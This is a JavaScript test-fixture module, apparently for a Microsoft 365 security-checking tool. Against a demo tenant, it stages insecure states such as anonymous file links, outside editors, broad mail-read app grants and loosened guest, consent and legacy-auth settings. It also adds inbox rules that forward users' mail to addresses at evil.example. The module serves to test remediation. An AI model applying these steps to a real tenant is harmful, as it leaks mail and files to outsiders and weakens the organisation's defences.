import { accessStagesOf } from './fix-stages-access.mjs';

/** For each remedy: how the tenant comes to need it, as a signed-in administrator would make it. */
export async function stagesOf(tenantUrl, known) {
  const graph = async (method, where, body) => {
    const response = await fetch(`${tenantUrl}/v1.0${where}`, {
      method,
      headers: { authorization: 'Bearer demo-user', 'content-type': 'application/json' },
      ...(body ? { body: JSON.stringify(body) } : {}),
    });
    const text = await response.text();
    if (!response.ok) throw new Error(`${method} ${where}: ${response.status} ${text}`);
    return text ? JSON.parse(text) : {};
  };
  const stella = 'dece0000-0000-4000-8000-0000000000a1';
  const join = (...parts) => parts.map(encodeURIComponent).join('/');
  const { id: driveId } = await graph('GET', `/users/${stella}/drive`);
  const files = [];
  const walk = async (where) => {
    for (let next = where; next; ) {
      const page = await graph('GET', next);
      for (const one of page.value) {
        if (one.folder) await walk(`/drives/${driveId}/items/${one.id}/children`);
        else if (!one.shared) files.push(one.id);
      }
      next = page['@odata.nextLink']?.split('/v1.0')[1];
    }
  };
  await walk(`/drives/${driveId}/root/children`);
  const people = (await graph('GET', "/users?$filter=userType eq 'Member'&$top=40&$select=id")).value.map(
    ({ id }) => id,
  );
  const link = (body) => async () => {
    await graph('PATCH', '/admin/sharepoint/settings', { sharingCapability: 'externalUserAndGuestSharing' });
    const itemId = files.pop();
    const made = await graph('POST', `/drives/${driveId}/items/${itemId}/createLink`, {
      type: 'view',
      scope: 'anonymous',
      ...body,
    });
    return { checkId: 'sharing.anonymous-link-open', subjectId: join(driveId, itemId, made.id) };
  };
  let turn = 0;
  const rules = async () => {
    turn += 1;
    const userId = people[turn % people.length];
    const where = `/users/${userId}/mailFolders/inbox/messageRules`;
    const known = await graph('GET', where).catch(() => null);
    if (!known) return rules();
    for (const { id } of known.value) await graph('DELETE', `${where}/${id}`);
    for (const name of ['x', 'y'])
      await graph('POST', where, {
        displayName: name,
        sequence: 1,
        isEnabled: true,
        actions: { forwardTo: [{ emailAddress: { address: `${name}@evil.example`, name } }] },
      });
    return { checkId: 'email.rule-forwarding-outside', subjectId: userId };
  };
  const setting = (checkId, where, open) => async () => {
    await graph('PATCH', where, open);
    return { checkId, subjectId: 'tenant' };
  };
  const raiseRisk = async (userId) => {
    const response = await fetch(`${tenantUrl}/demo/users/${userId}/raise-risk`, {
      method: 'POST',
      headers: { authorization: 'Bearer demo-user', 'content-type': 'application/json' },
      body: '{}',
    });
    if (!response.ok) throw new Error(`raise-risk: ${response.status}`);
  };
  const access = async () => {
    const itemId = files.pop();
    const { value } = await graph('POST', `/drives/${driveId}/items/${itemId}/invite`, {
      recipients: [{ email: 'partner@outside.example' }],
      roles: ['write'],
    });
    return {
      checkId: 'sharing.outside-person-new',
      subjectId: join(driveId, itemId, value[0].id, 'partner@outside.example'),
    };
  };
  const authorization = '/policies/authorizationPolicy';
  const sharePoint = '/admin/sharepoint/settings';
  return {
    ...(await accessStagesOf(graph, raiseRisk, known)),
    'remove-link': link({}),
    'remove-site-links': link({}),
    'end-link': link({ expirationDateTime: '2099-01-01T00:00:00Z' }),
    'remove-access': access,
    'limit-to-view': async () => ({ ...(await access()), because: 'somebody from outside can edit' }),
    'disable-forwarding-rules': rules,
    'delete-forwarding-rules': rules,
    'remove-app-grants': async () => {
      const { value } = await graph('GET', '/servicePrincipals?$top=999');
      const service = value.find(({ appId }) => appId === '00000003-0000-0000-c000-000000000000');
      const app = value.find(({ id }) => id !== service.id);
      await graph('POST', '/oauth2PermissionGrants', {
        clientId: app.id,
        resourceId: service.id,
        consentType: 'AllPrincipals',
        scope: 'Mail.ReadWrite',
      });
      return { checkId: 'apps.risky-tenant-grant', subjectId: app.id };
    },
    'resolve-alert': async () => {
      const [{ id }] = (await graph('GET', '/security/alerts_v2')).value;
      await graph('PATCH', `/security/alerts_v2/${id}`, { status: 'inProgress' });
      return { checkId: 'threat.alert-high-open', subjectId: id };
    },
    'tighten-guest-invites': setting('guests.anyone-may-invite', authorization, { allowInvitesFrom: 'everyone' }),
    'tighten-guest-view': setting('guests.see-too-much', authorization, {
      guestUserRoleId: 'a0b1b346-4d3e-4e8b-98f8-753987be4970',
    }),
    'tighten-user-consent': setting('apps.user-consent-allowed', authorization, {
      defaultUserRolePermissions: {
        permissionGrantPoliciesAssigned: ['ManagePermissionGrantsForSelf.microsoft-user-default-legacy'],
      },
    }),
    'tighten-resharing': setting('sharing.guests-may-reshare', sharePoint, { isResharingByExternalUsersEnabled: true }),
    'stop-legacy-sharepoint': setting('sharing.legacy-protocols-on', sharePoint, {
      isLegacyAuthProtocolsEnabled: true,
    }),
    'sign-out-idle': setting('sharing.idle-sign-out-off', sharePoint, {
      idleSessionSignOut: { isEnabled: false, warnAfterInSeconds: 0, signOutAfterInSeconds: 0 },
    }),
    'tighten-tenant-sharing': setting('sharing.tenant-too-open', sharePoint, {
      sharingCapability: 'externalUserAndGuestSharing',
    }),
  };
}
